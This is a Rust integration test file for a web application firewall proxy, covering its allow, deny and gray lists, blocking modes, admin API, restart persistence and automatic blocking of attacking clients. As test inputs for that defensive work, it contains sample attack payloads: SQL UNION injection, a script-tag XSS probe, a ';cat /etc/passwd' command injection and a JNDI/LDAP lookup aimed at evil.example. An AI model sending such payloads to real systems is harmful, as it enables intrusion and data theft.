//! Lists and modes of a running proxy: what each combination answers, the API that changes them, and what a restart keeps.

mod support;

use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};

use serde_json::{Value, json};
use support::envoy::{Envoy, binary, example};
use support::{Folder, Response, Running, UNION_ATTACK, Upstream, command, eventually, get, receive, send};

/// Asks the admin listener as a program does.
fn api(admin: SocketAddr, method: &str, path: &str, body: &str) -> (u16, Value) {
    let response = api_as(admin, method, path, body, "");
    (response.status, serde_json::from_str(&response.body).unwrap_or(Value::Null))
}

fn api_as(admin: SocketAddr, method: &str, path: &str, body: &str, more: &str) -> Response {
    let request = format!(
        "{method} {path} HTTP/1.1\r\nHost: {admin}\r\nContent-Length: {}\r\n{more}\r\n{body}",
        body.len()
    );
    send(admin, request.as_bytes())
}

fn items(admin: SocketAddr, path: &str) -> Vec<Value> {
    let (status, page) = api(admin, "GET", path, "");
    assert_eq!(status, 200, "{page}");
    page["items"].as_array().unwrap().clone()
}

/// The node article's container.
fn node(folder: &Folder, upstream: &Upstream, mode: &str, more: &[(&str, &str)]) -> Running {
    let mut command = command(&["run"]);
    command
        .current_dir(folder.path())
        .env("PALISADE_LISTEN", "127.0.0.1:0")
        .env("PALISADE_ADMIN", "127.0.0.1:0")
        .env("PALISADE_DATA_DIR", folder.at("data"))
        .env("PALISADE_ERROR_LOG", folder.at("error.log"))
        .env("PALISADE_ACCESS_LOG", folder.at("access.log"))
        .env("NGINX_BACKEND", upstream.url.strip_prefix("http://").unwrap())
        .env("WALLARM_MODE", mode)
        .env("WALLARM_APPLICATION", "12")
        .envs(more.iter().copied());
    Running::start(command)
}

fn log_of(folder: &Folder) -> String {
    std::fs::read_to_string(folder.at("error.log")).unwrap_or_default()
}

fn metric(admin: SocketAddr, line: &str) -> f64 {
    let page = api_as(admin, "GET", "/metrics", "", "").body;
    let value = page.lines().find_map(|text| text.strip_prefix(line)?.trim().parse().ok());
    value.unwrap_or_else(|| panic!("no {line}"))
}

#[test]
fn each_mode_and_list_answers_a_harmless_request_and_an_attack_as_the_node_does() {
    // As docs/guide/modes.md has it: harmless, attack.
    let table = [
        ("off", "", [200, 200]),
        ("off", "allow", [200, 200]),
        ("off", "deny", [403, 403]),
        ("off", "gray", [200, 200]),
        ("monitoring", "", [200, 200]),
        ("monitoring", "allow", [200, 200]),
        ("monitoring", "deny", [403, 403]),
        ("monitoring", "gray", [200, 200]),
        ("safe_blocking", "", [200, 200]),
        ("safe_blocking", "allow", [200, 200]),
        ("safe_blocking", "deny", [403, 403]),
        ("safe_blocking", "gray", [200, 403]),
        ("block", "", [200, 403]),
        ("block", "allow", [200, 200]),
        ("block", "deny", [403, 403]),
        ("block", "gray", [200, 403]),
        // The first list counts.
        ("block", "allow deny gray", [200, 200]),
        ("block", "deny gray", [403, 403]),
        ("safe_blocking", "allow gray", [200, 200]),
    ];
    for mode in ["off", "monitoring", "safe_blocking", "block"] {
        let (folder, upstream) = (Folder::new(), Upstream::start());
        let mut proxy = node(&folder, &upstream, mode, &[]);
        let (address, admin) = (proxy.address(), proxy.admin());
        for (_, lists, answers) in table.iter().filter(|(of, ..)| *of == mode) {
            for list in lists.split_whitespace() {
                let body = r#"{"address": "127.0.0.0/8", "reason": "of the table"}"#;
                assert_eq!(api(admin, "POST", &format!("/api/v1/lists/{list}"), body).0, 200);
            }
            let before = upstream.heads().len();
            let harmless = get(address, "/", "");
            let attack = get(address, UNION_ATTACK, "");
            assert_eq!([harmless.status, attack.status], *answers, "{mode}, on {lists:?}");
            // Recorded is what was looked at: with no mode off, and of no source that a list decides about before.
            let id = attack.header("x-request-id").unwrap();
            let access = eventually("its access line", || {
                let log = std::fs::read_to_string(folder.at("access.log")).ok()?;
                let line = log.lines().find(|line| line.contains(id))?;
                serde_json::from_str::<Value>(line).ok()
            });
            let found = ["rules", "attacks"].iter().any(|key| access[key] != json!([]));
            let looked_at = mode != "off" && !lists.contains("allow") && !lists.contains("deny");
            assert_eq!(found, looked_at, "{mode}, on {lists:?}: {access}");
            let passed = answers.iter().filter(|status| **status == 200).count();
            assert_eq!(upstream.heads().len() - before, passed, "{mode}, on {lists:?}");
            if answers[0] == 403 {
                let id = harmless.header("x-request-id").unwrap();
                assert!(harmless.body.contains(id), "{harmless:?}");
                let line = eventually("the line of the denial", || {
                    log_of(&folder).lines().find(|line| line.contains(id)).map(str::to_owned)
                });
                let said = "[client 127.0.0.1] Palisade: Denied with code 403: its source is on the deny list \
                     [entry \"127.0.0.0/8\"] [origin \"api\"] [reason \"of the table\"] [hostname";
                assert!(line.starts_with(said), "{line}");
            }
            for list in lists.split_whitespace() {
                let (status, removed) = api(admin, "DELETE", &format!("/api/v1/lists/{list}?all=true"), "");
                assert_eq!((status, &removed["removed"]), (200, &json!(1)), "{removed}");
            }
        }
        if mode == "safe_blocking" {
            assert!(
                log_of(&folder)
                    .contains("Stopped because its source is on the gray list [entry \"127.0.0.0/8\"]")
            );
            assert_eq!(metric(admin, "palisade_list_hits_total{list=\"deny\"}"), 2.0);
            assert_eq!(metric(admin, "palisade_list_entries{list=\"gray\"}"), 0.0);
            assert_eq!(metric(admin, "palisade_requests_blocked_total{class=\"list\"}"), 2.0);
            let access = std::fs::read_to_string(folder.at("access.log")).unwrap();
            let lists: Vec<Value> = access
                .lines()
                .map(|line| serde_json::from_str::<Value>(line).unwrap()["list"].clone())
                .collect();
            assert!(
                lists.contains(&json!("allow"))
                    && lists.contains(&json!("gray"))
                    && lists.contains(&Value::Null)
            );
        }
    }
}

#[test]
fn an_entry_is_for_its_applications_until_its_time_is_over() {
    let (folder, upstream) = (Folder::new(), Upstream::start());
    let mut proxy = node(&folder, &upstream, "monitoring", &[]);
    let (address, admin) = (proxy.address(), proxy.admin());
    let add = |body: &str| assert_eq!(api(admin, "POST", "/api/v1/lists/deny", body).0, 200, "{body}");
    add(r#"{"address": "127.0.0.1", "applications": [13]}"#);
    assert_eq!(get(address, "/", "").status, 200, "another application's");
    add(r#"{"address": "127.0.0.1", "applications": [12, 13], "expires": "1s"}"#);
    assert_eq!(get(address, "/", "").status, 403);
    eventually("the entry's time to be over", || (get(address, "/", "").status == 200).then_some(()));
    eventually("it is swept", || (items(admin, "/api/v1/lists/deny").len() == 1).then_some(()));
}

#[test]
fn the_api_pages_filters_refuses_and_keeps_across_a_crash() {
    let (folder, upstream) = (Folder::new(), Upstream::start());
    let mut proxy = node(&folder, &upstream, "monitoring", &[]);
    let (address, admin) = (proxy.address(), proxy.admin());
    let many: Vec<Value> = (0..2_500)
        .map(|number| json!({"address": format!("10.1.{}.{}", number / 250, number % 250), "reason": "a feed"}))
        .collect();
    let (status, added) =
        api(admin, "POST", "/api/v1/lists/deny?by=alice", &json!({ "items": many }).to_string());
    assert_eq!((status, &added["added"], &added["replaced"]), (200, &json!(2500), &json!(0)));
    let more = r#"[{"address": "127.0.0.1", "reason": "a \"quoted\" one"}, {"address": "2001:db8::/32", "expires": "2h"},
        {"address": "10.1.0.0", "reason": "again"}]"#;
    let (status, added) = api(admin, "POST", "/api/v1/lists/deny", more);
    assert_eq!((status, &added["added"], &added["replaced"]), (200, &json!(2), &json!(1)));
    assert_eq!(get(address, "/", "").status, 403);

    let (mut seen, mut path) = (0, "/api/v1/lists/deny?limit=1000".to_owned());
    loop {
        let (_, page) = api(admin, "GET", &path, "");
        seen += page["items"].as_array().unwrap().len();
        let Some(next) = page["next"].as_str() else { break };
        path = format!("/api/v1/lists/deny?limit=1000&cursor={next}");
    }
    assert_eq!(seen, 2_502);
    let about = items(admin, "/api/v1/lists/deny?address=127.0.0.1");
    assert_eq!(
        (about.len(), &about[0]["id"], &about[0]["origin"]),
        (1, &json!("deny:127.0.0.1"), &json!("api"))
    );
    assert_eq!(items(admin, "/api/v1/lists/deny?q=again").len(), 1);
    assert_eq!(items(admin, "/api/v1/lists/deny?origin=file").len(), 0);
    assert_eq!(items(admin, "/api/v1/lists/allow").len(), 0);

    // What matches nobody without files of places is taken, and said.
    let places = r#"[{"country": "ZZ"}, {"asn": 64500}]"#;
    let (status, added) = api(admin, "POST", "/api/v1/lists/gray", places);
    assert_eq!((status, &added["added"]), (200, &json!(2)));
    let notes = added["notes"].as_array().unwrap();
    assert!(notes[0].as_str().unwrap().contains("`lists.places.countries`"), "{added}");
    assert!(notes[1].as_str().unwrap().contains("`lists.places.asns`"), "{added}");
    assert_eq!(api(admin, "DELETE", "/api/v1/lists/gray?all=true", "").1["removed"], 2);

    for (method, path, body, status) in [
        ("POST", "/api/v1/lists/deny", "{", 400),
        ("POST", "/api/v1/lists/deny", r#"{"address": "192.0.2.1/24"}"#, 400),
        ("POST", "/api/v1/lists/deny", r#"{"address": "192.0.2.1", "colour": "red"}"#, 400),
        ("POST", "/api/v1/lists/black", r#"{"address": "192.0.2.1"}"#, 404),
        ("PUT", "/api/v1/lists/deny", r#"{"address": "192.0.2.1"}"#, 405),
        ("DELETE", "/api/v1/lists/deny", "", 400),
        ("DELETE", "/api/v1/lists/deny?id=gray:192.0.2.1", "", 400),
        ("GET", "/api/v1/lists/deny?limit=100000", "", 400),
        ("GET", "/api/v1/lists/deny?colour=red", "", 400),
        ("DELETE", "/api/v1/services", "", 405),
    ] {
        let (said, why) = api(admin, method, path, body);
        assert_eq!(said, status, "{method} {path} {body}: {why}");
        assert!(why["error"].is_string(), "{why}");
    }
    let too_large =
        format!("POST /api/v1/lists/deny HTTP/1.1\r\nHost: {admin}\r\nContent-Length: 99999999\r\n\r\n");
    assert_eq!(send(admin, too_large.as_bytes()).status, 413);
    let body = r#"{"address": "192.0.2.1"}"#;
    let foreign = api_as(admin, "POST", "/api/v1/lists/deny", body, "Origin: http://evil.example\r\n");
    assert_eq!(foreign.status, 403, "another site's page");
    let rebound =
        send(admin, b"POST /api/v1/lists/deny HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\n\r\n");
    assert_eq!(rebound.status, 421, "a name that was pointed at us");
    assert_eq!(get(admin, "/livez", "").status, 200);

    let (_, removed) = api(admin, "DELETE", "/api/v1/lists/deny?id=deny:10.1.0.1&by=bob", "");
    assert_eq!(removed["removed"], 1);
    let ids = r#"{"ids": ["deny:10.1.0.2", "deny:10.1.0.3", "deny:10.9.9.9"]}"#;
    assert_eq!(api(admin, "DELETE", "/api/v1/lists/deny", ids).1["removed"], 2);
    let changes = items(admin, "/api/v1/lists/changes?limit=3");
    assert_eq!(
        (&changes[0]["what"], &changes[0]["entry"]["id"]),
        (&json!("removed"), &json!("deny:10.1.0.3"))
    );
    assert_eq!(changes[2]["by"], "bob (api, 127.0.0.1)");

    // Killed, and started again with the same folder.
    proxy.signal("KILL");
    drop(proxy);
    let mut proxy = node(&folder, &upstream, "monitoring", &[]);
    let (address, admin) = (proxy.address(), proxy.admin());
    assert_eq!(get(address, "/", "").status, 403);
    assert_eq!(items(admin, "/api/v1/lists/deny?address=10.1.0.2").len(), 0);
    let entry = items(admin, "/api/v1/lists/deny?address=2001:db8::1").remove(0);
    assert!(entry["expires"].is_string() && entry["created"].is_string(), "{entry}");
    assert_eq!(items(admin, "/api/v1/lists/changes?limit=3"), changes);
    let (_, removed) = api(admin, "DELETE", "/api/v1/lists/deny?all=true", "");
    assert_eq!(removed["removed"], 2_499);
    assert_eq!(get(address, "/", "").status, 200);
}

/// A proxy by a file, whose access log stands beside it.
fn by_file(folder: &Folder, upstream: &Upstream, service: &str, rest: &str) -> Running {
    let file = folder.write("palisade.yaml", by_file_text(folder, upstream, service, rest));
    Running::start(command(&["run", "--config", &file]))
}

fn by_file_text(folder: &Folder, upstream: &Upstream, service: &str, rest: &str) -> String {
    format!(
        "admin: {{address: \"127.0.0.1:0\"}}\ndataDir: {}\nlogs: {{error: {}}}\nlisteners: [{{name: web, address: \"127.0.0.1:0\"}}]\n\
         services: [{{name: web, upstream: {{url: \"{}\"}}{service}}}]\n{rest}\n",
        folder.at("data"),
        folder.at("error.log"),
        upstream.url
    )
}

#[test]
fn the_files_lists_follow_the_file_and_are_not_the_apis_to_change() {
    let (folder, upstream) = (Folder::new(), Upstream::start());
    let lists = "lists: {deny: [{address: 127.0.0.1, reason: by hand}], gray: [{address: \"2001:db8::/32\", expires: 1h}]}";
    let mut proxy = by_file(&folder, &upstream, "", lists);
    let (address, admin) = (proxy.address(), proxy.admin());
    assert_eq!(get(address, "/", "").status, 403);
    let entry = items(admin, "/api/v1/lists/deny").remove(0);
    assert_eq!((&entry["id"], &entry["origin"]), (&json!("deny:127.0.0.1!file"), &json!("file")));
    let (status, why) = api(admin, "DELETE", "/api/v1/lists/deny?id=deny:127.0.0.1!file", "");
    assert_eq!(status, 409, "{why}");
    let until = items(admin, "/api/v1/lists/gray")[0]["expires"].clone();
    assert_eq!(proxy.end(), 0);
    // A restart does not make an hour longer, and what the file no longer says is gone.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let mut proxy =
        by_file(&folder, &upstream, "", &lists.replace("{address: 127.0.0.1, reason: by hand}", ""));
    let (address, admin) = (proxy.address(), proxy.admin());
    assert_eq!(get(address, "/", "").status, 200);
    assert_eq!(items(admin, "/api/v1/lists/gray")[0]["expires"], until);
    // And a reload brings it back.
    let config = std::fs::read_to_string(folder.at("palisade.yaml")).unwrap();
    folder.write("palisade.yaml", config.replace("deny: []", "deny: [{address: 127.0.0.0/8}]"));
    eventually("the file's list", || (get(address, "/", "").status == 403).then_some(()));
}

#[test]
fn countries_and_systems_are_looked_up_in_files_of_maxminds_format() {
    let (folder, upstream) = (Folder::new(), Upstream::start());
    let country = mmdb(|map| map.entry("country", |map| map.text("iso_code", "NL")));
    let asn = mmdb(|map| map.number("autonomous_system_number", 64_500));
    let (countries, asns) = (folder.write("country.mmdb", country), folder.write("asn.mmdb", asn));
    let places = format!("places: {{countries: {countries}, asns: {asns}}}");
    let mut proxy = by_file(&folder, &upstream, "", &format!("lists: {{{places}}}"));
    let (address, admin) = (proxy.address(), proxy.admin());
    let status = || get(address, "/", "").status;
    assert_eq!(status(), 200);
    for (body, id) in [(r#"{"country": "NL"}"#, "deny:NL"), (r#"{"asn": 64500}"#, "deny:AS64500")] {
        assert_eq!(api(admin, "POST", "/api/v1/lists/deny", body).0, 200);
        assert_eq!(status(), 403, "{body}");
        assert_eq!(api(admin, "DELETE", &format!("/api/v1/lists/deny?id={id}"), "").1["removed"], 1);
        assert_eq!(status(), 200);
    }
    assert_eq!(api(admin, "POST", "/api/v1/lists/deny", r#"[{"country": "DE"}, {"asn": 1}]"#).0, 200);
    assert_eq!(status(), 200, "others'");
    // A file that is broken leaves the one before in use.
    folder.write("country.mmdb", "nonsense");
    proxy.wait_err("places stay as they were");
    assert_eq!(api(admin, "POST", "/api/v1/lists/deny", r#"{"country": "NL"}"#).0, 200);
    assert_eq!(status(), 403);
}

#[test]
fn a_mode_set_at_run_time_beats_the_file_outlives_a_restart_and_goes_no_further_than_it_may() {
    let (folder, upstream) = (Folder::new(), Upstream::start());
    let rest = "routes: [{service: web}, {path: /cms, service: web, mode: monitoring}]\nprofiles: {default: {mode: monitoring}}";
    let mut proxy = by_file(&folder, &upstream, ", mode: block, application: 3", rest);
    let (address, admin) = (proxy.address(), proxy.admin());
    let attack = |address, path: &str| get(address, &UNION_ATTACK.replacen('/', path, 1), "").status;
    // What is nearest to the request counts.
    assert_eq!([attack(address, "/"), attack(address, "/cms")], [403, 200]);
    let service = items(admin, "/api/v1/services").remove(0);
    let expected = json!({
        "name": "web", "application": 3, "mode": "block", "mode_from": "service", "mode_written": "block",
        "mode_set": null, "mode_override": "on",
        "routes": [{"hosts": [], "path": "/cms", "mode": "monitoring", "mode_from": "route"}],
    });
    assert_eq!(service, expected);
    let mode = "/api/v1/services/web/mode";
    assert_eq!(api(admin, "PUT", mode, r#"{"mode": "loud"}"#).0, 400);
    assert_eq!(api(admin, "PUT", "/api/v1/services/other/mode", r#"{"mode": "off"}"#).0, 404);
    let body = r#"{"mode": "monitoring", "by": "alice", "reason": "an incident"}"#;
    let (status, set) = api(admin, "PUT", mode, body);
    assert_eq!(
        (status, &set["service"]["mode"], &set["service"]["mode_from"]),
        (200, &json!("monitoring"), &json!("run-time"))
    );
    let change = &set["changes"][0];
    assert_eq!(
        [&change["by"], &change["reason"], &change["from"], &change["to"], &change["set"]],
        ["alice (api, 127.0.0.1)", "an incident", "block", "monitoring", "monitoring"]
    );
    proxy.wait_err("palisade: mode of service web set to monitoring by alice (api, 127.0.0.1), block before and monitoring since: an incident");
    assert_eq!([attack(address, "/"), attack(address, "/cms")], [200, 200]);
    assert_eq!(api(admin, "PUT", mode, r#"{"mode": "block"}"#).0, 200);
    assert_eq!([attack(address, "/"), attack(address, "/cms")], [403, 403], "of every route");
    assert_eq!(api(admin, "PUT", mode, body).0, 200);

    // Killed, and started again, by a file that says another mode: what was set holds.
    proxy.signal("KILL");
    drop(proxy);
    let mut proxy = by_file(&folder, &upstream, ", mode: safe_blocking", rest);
    let (address, admin) = (proxy.address(), proxy.admin());
    assert_eq!(attack(address, "/"), 200);
    assert_eq!(api(admin, "GET", mode, "").1["changes"].as_array().map(Vec::len), Some(3));
    assert_eq!(api(admin, "GET", "/api/v1/status", "").1["services"][0]["mode"], "monitoring");
    let (_, given_back) = api(admin, "DELETE", &format!("{mode}?by=bob"), "");
    assert_eq!(
        (&given_back["service"]["mode"], &given_back["changes"][0]["set"]),
        (&json!("safe_blocking"), &Value::Null)
    );
    assert_eq!(api(admin, "PUT", mode, body).0, 200);
    assert_eq!(proxy.end(), 0);

    // strict: only towards more; off: not at all.
    let mut proxy = by_file(&folder, &upstream, ", mode: block, modeOverride: strict", rest);
    let (address, admin) = (proxy.address(), proxy.admin());
    assert_eq!([attack(address, "/"), attack(address, "/cms")], [403, 200]);
    assert_eq!(items(admin, "/api/v1/services")[0]["mode_from"], "service");
    assert_eq!(api(admin, "PUT", mode, r#"{"mode": "safe_blocking"}"#).1["service"]["mode"], "block");
    assert_eq!(items(admin, "/api/v1/services")[0]["routes"][0]["mode"], "safe_blocking");
    assert_eq!(proxy.end(), 0);
    let mut proxy = by_file(&folder, &upstream, ", mode: block, modeOverride: \"off\"", rest);
    let (address, admin) = (proxy.address(), proxy.admin());
    assert_eq!([attack(address, "/"), attack(address, "/cms")], [403, 200]);
    let (status, why) = api(admin, "PUT", mode, body);
    assert_eq!(status, 409, "{why}");
    // A flag is nearer than all that is written.
    assert_eq!(proxy.end(), 0);
    let mut proxy =
        Running::start(command(&["run", "--config", &folder.at("palisade.yaml"), "--mode", "block"]));
    assert_eq!(attack(proxy.address(), "/cms"), 403);
}

#[test]
fn lists_and_modes_hold_behind_envoy() {
    let Some(binary) = binary() else { return };
    for bootstrap in ["ext-authz.yaml", "ext-proc.yaml"] {
        let (folder, upstream) = (Folder::new(), Upstream::start());
        let socket = format!("unix:{}", folder.at("envoy.sock"));
        let data = folder.at("data");
        let arguments = [
            "run",
            "--ext-authz",
            &socket,
            "--data-dir",
            &data,
            "--admin",
            "127.0.0.1:0",
            "--mode",
            "safe_blocking",
        ];
        let mut palisade = Running::start(command(&arguments));
        palisade.wait_err("(envoy)\n");
        let admin = palisade.admin();
        let envoy =
            Envoy::start(&binary, &folder, &example(bootstrap, &upstream.url, &folder.at("envoy.sock")));
        let ask = |target: &str| get(envoy.address, target, "Connection: close\r\n").status;
        let body = r#"{"address": "127.0.0.1"}"#;
        assert_eq!([ask("/"), ask(UNION_ATTACK)], [200, 200], "{bootstrap}");
        assert_eq!(api(admin, "POST", "/api/v1/lists/gray", body).0, 200);
        assert_eq!([ask("/"), ask(UNION_ATTACK)], [200, 403], "{bootstrap}, gray");
        assert_eq!(api(admin, "POST", "/api/v1/lists/deny", body).0, 200);
        let reached = upstream.heads().len();
        assert_eq!([ask("/"), ask(UNION_ATTACK)], [403, 403], "{bootstrap}, deny");
        assert_eq!(upstream.heads().len(), reached);
        assert_eq!(api(admin, "POST", "/api/v1/lists/allow", body).0, 200);
        assert_eq!([ask("/"), ask(UNION_ATTACK)], [200, 200], "{bootstrap}, allow");
    }
}

#[test]
fn a_source_of_more_than_three_different_payloads_in_an_hour_is_gray_for_an_hour() {
    let (folder, upstream) = (Folder::new(), Upstream::start());
    let mut proxy = node(&folder, &upstream, "safe_blocking", &[]);
    let (address, admin) = (proxy.address(), proxy.admin());
    // The same attack again and again is one payload.
    for _ in 0..6 {
        assert_eq!(get(address, UNION_ATTACK, "").status, 200);
    }
    for attack in ["/?q=<script>alert(1)</script>", "/?q=;cat%20/etc/passwd"] {
        assert_eq!(get(address, attack, "").status, 200);
    }
    assert_eq!(items(admin, "/api/v1/lists/gray").len(), 0);
    assert_eq!(get(address, "/?q=%24%7Bjndi:ldap://evil.example/a%7D", "").status, 200);
    let entry = eventually("the entry", || items(admin, "/api/v1/lists/gray").pop());
    assert_eq!([&entry["address"], &entry["origin"]], ["127.0.0.1", "automatic"]);
    assert_eq!(entry["applications"], json!([12]));
    let reason = entry["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("4 different malicious payloads in 1h, more than 3 (last request "),
        "{reason}"
    );
    proxy.wait_err("palisade: lists: 127.0.0.1 is on the gray list for 1h: 4 different malicious payloads");
    assert_eq!([get(address, "/", "").status, get(address, UNION_ATTACK, "").status], [200, 403]);
    assert_eq!(metric(admin, "palisade_automatic_entries_total{behaviour=\"payloads\"}"), 1.0);
    // Nobody is shut out who may be everybody: all come from one address.
    assert_eq!(items(admin, "/api/v1/lists/deny").len(), 0);
}

/// A request of a client behind the trusted proxy that this test is.
fn get_as(address: SocketAddr, client: &str, target: &str) -> u16 {
    get(address, target, &format!("X-Forwarded-For: {client}\r\n")).status
}

#[test]
fn guessing_browsing_and_many_attacks_are_denied_where_the_profile_says_so_and_proxies_never() {
    let (folder, upstream) = (Folder::new(), Upstream::missing_below("/none"));
    let client_address = "clientAddress: {from: x-forwarded-for, trusted: [127.0.0.0/8]}";
    let profiles = "lists: {never: [192.0.2.200/29]}\nprofiles: {default: {automatic: {gray: {enabled: false}, deny: {above: 2}, \
         bruteForce: {paths: [/login], above: 4, within: 10m}, \
         forcedBrowsing: {above: 4, within: 10m, lasts: 5m, list: gray}}}}";
    let config = by_file_text(&folder, &upstream, "", profiles);
    let config = config.replace(
        "address: \"127.0.0.1:0\"}]\nservices",
        &format!("address: \"127.0.0.1:0\", {client_address}}}]\nservices"),
    );
    let file = folder.write("palisade.yaml", &config);
    let mut proxy = Running::start(command(&["run", "--config", &file]));
    let (address, admin) = (proxy.address(), proxy.admin());
    for number in 0..5 {
        assert_eq!(get_as(address, "192.0.2.1", "/login/x"), 200, "{number}");
        assert_eq!(get_as(address, "192.0.2.2", "/none/x"), 404);
        assert_eq!(get_as(address, "192.0.2.3", "/"), 200);
        // A network that never comes on a list, and the proxy itself.
        assert_eq!(get_as(address, "192.0.2.201", "/login/x"), 200);
        assert_eq!(get(address, "/login", "").status, 200);
    }
    for attack in ["/?q=<script>alert(1)</script>", "/?q=;cat%20/etc/passwd", UNION_ATTACK] {
        assert_eq!(get_as(address, "2001:db8::1", attack), 200);
    }
    eventually("three entries", || {
        let ids: Vec<Value> =
            items(admin, "/api/v1/lists/deny").into_iter().map(|entry| entry["id"].clone()).collect();
        (ids.contains(&json!("deny:192.0.2.1"))
            && ids.contains(&json!("deny:2001:db8::/64"))
            && ids.len() == 2)
            .then_some(())
    });
    let gray = eventually("the one that browses", || items(admin, "/api/v1/lists/gray").pop());
    assert_eq!((&gray["address"], items(admin, "/api/v1/lists/gray").len()), (&json!("192.0.2.2"), 1));
    assert_eq!(get_as(address, "192.0.2.1", "/"), 403);
    assert_eq!(get_as(address, "2001:db8::2", "/"), 403, "its whole network");
    for (client, target) in
        [("192.0.2.2", "/"), ("192.0.2.3", "/login"), ("192.0.2.201", "/"), ("127.0.0.1", "/")]
    {
        assert_eq!(get_as(address, client, target), 200, "{client}");
    }
}

/// A request of a client that has another address of this machine.
fn get_from(source: &str, address: SocketAddr, target: &str) -> u16 {
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
    socket.bind(&SocketAddr::new(source.parse().unwrap(), 0).into()).unwrap();
    socket.connect(&address.into()).unwrap();
    let mut stream = TcpStream::from(socket);
    write!(stream, "GET {target} HTTP/1.1\r\nHost: shop.example.com\r\n\r\n").unwrap();
    receive(stream).status
}

#[test]
fn an_address_that_all_clients_share_never_comes_on_a_list_and_is_taken_from_it() {
    let (folder, upstream) = (Folder::new(), Upstream::start());
    let profiles = "profiles: {default: {mode: safe_blocking, automatic: {deny: {above: 4}, \
         bruteForce: {paths: [/login], above: 4, within: 10m}}}}";
    let mut proxy = by_file(&folder, &upstream, "", profiles);
    let (address, admin) = (proxy.address(), proxy.admin());
    let attack = |number: u32| format!("/?id=1%20UNION%20SELECT%20{number},name%20FROM%20users--");
    for number in 0..4 {
        get(address, &attack(number), "");
    }
    eventually("the entry", || (items(admin, "/api/v1/lists/gray").len() == 1).then_some(()));
    assert_eq!(get(address, UNION_ATTACK, "").status, 403, "it may be one client");
    // A hundred connections, all from there: somebody stands between.
    for _ in 0..100 {
        get(address, "/login", "");
    }
    proxy.wait_err("127.0.0.1 is taken away: all clients have this address");
    eventually("no entry", || items(admin, "/api/v1/lists/gray").is_empty().then_some(()));
    for number in 10..20 {
        assert_eq!(get(address, &attack(number), "").status, 200);
        assert_eq!(get(address, "/login", "").status, 200);
    }
    // Another client is one. What is counted is counted in order, so the others were.
    for number in 0..4 {
        get_from("127.0.0.9", address, &attack(number));
    }
    let ids = || {
        let lists = ["gray", "deny"].map(|list| items(admin, &format!("/api/v1/lists/{list}")));
        lists.concat().into_iter().map(|entry| entry["id"].clone()).collect::<Vec<Value>>()
    };
    eventually("the other client", || (ids() == ["gray:127.0.0.9"]).then_some(()));
    assert_eq!(get_from("127.0.0.9", address, UNION_ATTACK), 403);
    assert_eq!(get(address, UNION_ATTACK, "").status, 200);
}

/// A file in MaxMind's format, version 2.0, in which every IPv4 address has one record: a tree of one node, both of whose
/// sides are the record.
fn mmdb(record: impl FnOnce(&mut Record)) -> Vec<u8> {
    let mut data = Record::default();
    record(&mut data);
    let mut file = Vec::new();
    // One node of two records of 24 bits: nodes + 16 + offset in the data.
    for _ in 0..2 {
        file.extend([0, 0, 1 + 16]);
    }
    file.extend([0; 16]);
    file.extend(data.finish());
    file.extend(b"\xab\xcd\xefMaxMind.com");
    let mut about = Record::default();
    about.number("node_count", 1);
    about.text("database_type", "Test");
    for (name, value) in [
        ("record_size", 24),
        ("ip_version", 4),
        ("binary_format_major_version", 2),
        ("binary_format_minor_version", 0),
    ] {
        about.key(name);
        about.bytes.extend([0xa1, value]);
    }
    about.key("build_epoch");
    about.bytes.extend([0x01, 0x02, 1]);
    about.empty_list("languages");
    about.entry("description", |map| map.text("en", "a test"));
    file.extend(about.finish());
    file
}

/// A map of that format.
#[derive(Default)]
struct Record {
    pairs: u8,
    bytes: Vec<u8>,
}

impl Record {
    fn key(&mut self, name: &str) {
        self.pairs += 1;
        self.put_text(name);
    }

    fn put_text(&mut self, text: &str) {
        assert!(text.len() < 29);
        self.bytes.push(0x40 | text.len() as u8);
        self.bytes.extend(text.as_bytes());
    }

    fn text(&mut self, name: &str, value: &str) {
        self.key(name);
        self.put_text(value);
    }

    fn number(&mut self, name: &str, value: u32) {
        self.key(name);
        let bytes = value.to_be_bytes();
        let from = bytes.iter().position(|byte| *byte != 0).unwrap_or(4);
        self.bytes.push(0xc0 | (4 - from) as u8);
        self.bytes.extend(&bytes[from..]);
    }

    fn empty_list(&mut self, name: &str) {
        self.key(name);
        self.bytes.extend([0x00, 0x04]);
    }

    fn entry(&mut self, name: &str, fill: impl FnOnce(&mut Self)) {
        self.key(name);
        let mut inner = Self::default();
        fill(&mut inner);
        self.bytes.extend(inner.finish());
    }

    fn finish(self) -> Vec<u8> {
        [&[0xe0 | self.pairs][..], &self.bytes].concat()
    }
}
